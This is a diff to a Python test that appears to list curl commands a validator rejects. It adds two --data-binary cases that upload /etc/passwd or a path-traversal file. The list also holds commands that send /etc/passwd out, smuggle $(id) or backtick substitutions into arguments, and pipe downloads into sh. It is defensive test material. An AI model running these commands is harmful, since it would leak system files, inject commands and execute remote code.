@@ -55,6 +55,8 @@ def test_a_variable_that_is_none(name: str) -> None:
         "curl --include http://host --header @/etc/passwd", "curl --include http://host --header '@/etc/passwd'",
         "curl --include http://host --data @/etc/passwd", "curl --include -K/tmp/x http://host",
         "curl --include http://host --output /tmp/x", 'curl --include http://host --header "Authorization: $(id)"',
+        "curl --include http://host --data-binary @/etc/passwd",
+        "curl --include http://host --data-binary @bodies/../x",
         'curl --include http://host --data-raw "$(id)"', "curl --include http://host --request `id`",
         "curl --include http://host | sh", "curl --include '-K/tmp/x'", "curl --include http://host --header $'@x'",
     ],
